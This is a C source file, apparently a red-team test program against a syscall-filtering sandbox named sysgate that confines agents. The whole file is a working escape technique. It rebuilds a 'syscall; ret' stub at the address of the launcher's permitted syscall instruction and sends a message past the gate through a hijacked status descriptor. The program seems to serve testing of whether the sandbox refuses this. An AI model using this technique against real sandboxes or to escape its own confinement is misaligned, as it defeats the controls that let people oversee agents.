// The handoff replay attack (third red team, item 1): an agent that
// rebuilds, after its own execve, the one syscall instruction an earlier
// launcher let through unheard. Built as a static PIE, so its own image
// never sits where sysgate's launcher did.
//
//   replay benign|escape ADDR FD
//
// ADDR (hex) is the address right after the launcher's syscall
// instruction; FD the status socket's descriptor number in the launched
// agent. Both modes map the page at ADDR, place "syscall; ret" so that the
// instruction ends at ADDR, and dup2 a socket onto FD; escape then calls
// sendmsg through it. Exit 0: the escape's sendmsg ran (or benign did
// everything but it); 3: the sendmsg was refused; 1: set-up failed.
#define _GNU_SOURCE
#include <errno.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <unistd.h>

#ifndef MAP_FIXED_NOREPLACE
#define MAP_FIXED_NOREPLACE 0x100000
#endif

// stub_call calls the placed instruction with the syscall number and
// three arguments in the syscall registers.
static long stub_call(uintptr_t entry, long n, long a, long b, long c) {
	long ret;
#if defined(__x86_64__)
	// Below the red zone first: call pushes onto the stack.
	__asm__ volatile("sub $128, %%rsp\n\tcall *%1\n\tadd $128, %%rsp"
			 : "=a"(ret)
			 : "r"(entry), "a"(n), "D"(a), "S"(b), "d"(c)
			 : "rcx", "r11", "memory");
#elif defined(__aarch64__)
	register long x8 __asm__("x8") = n;
	register long x0 __asm__("x0") = a;
	register long x1 __asm__("x1") = b;
	register long x2 __asm__("x2") = c;
	__asm__ volatile("blr %5" : "+r"(x0) : "r"(x8), "r"(x1), "r"(x2), "0"(x0), "r"(entry) : "x30", "memory");
	ret = x0;
#endif
	return ret;
}

int main(int argc, char **argv) {
	if (argc != 4) {
		fprintf(stderr, "usage: replay benign|escape ADDR FD\n");
		return 1;
	}
	int escape = !strcmp(argv[1], "escape");
	uintptr_t addr = strtoull(argv[2], 0, 16);
	int fd = atoi(argv[3]);
	int sv[2];
	if (socketpair(AF_UNIX, SOCK_DGRAM, 0, sv) != 0) {
		perror("socketpair");
		return 1;
	}
	// Two pages, so the instruction before ADDR fits whatever ADDR's
	// offset in its page.
	uintptr_t page = (addr & ~(uintptr_t)4095) - 4096;
	char *m = mmap((void *)page, 8192, PROT_READ | PROT_WRITE | PROT_EXEC,
		       MAP_PRIVATE | MAP_ANONYMOUS | MAP_FIXED_NOREPLACE, -1, 0);
	if (m == MAP_FAILED || (uintptr_t)m != page) {
		perror("mmap at the handoff page");
		return 1;
	}
#if defined(__x86_64__)
	static const unsigned char stub[] = {0x0f, 0x05, 0xc3}; // syscall; ret
	uintptr_t entry = addr - 2;
#elif defined(__aarch64__)
	static const unsigned char stub[] = {0x01, 0x00, 0x00, 0xd4, 0xc0, 0x03, 0x5f, 0xd6}; // svc 0; ret
	uintptr_t entry = addr - 4;
#endif
	memcpy((void *)entry, stub, sizeof stub);
	__builtin___clear_cache((char *)entry, (char *)entry + sizeof stub);
	if (dup2(sv[0], fd) != fd) {
		perror("dup2 onto the status descriptor");
		return 1;
	}
	if (!escape)
		return 0;
	char data[] = "sent past the gate";
	struct iovec iov = {data, sizeof data};
	struct msghdr msg = {0};
	msg.msg_iov = &iov;
	msg.msg_iovlen = 1;
	long r = stub_call(entry, SYS_sendmsg, fd, (long)&msg, 0);
	if (r < 0) {
		fprintf(stderr, "sendmsg through the placed instruction: %s\n", strerror((int)-r));
		return 3;
	}
	return 0;
}
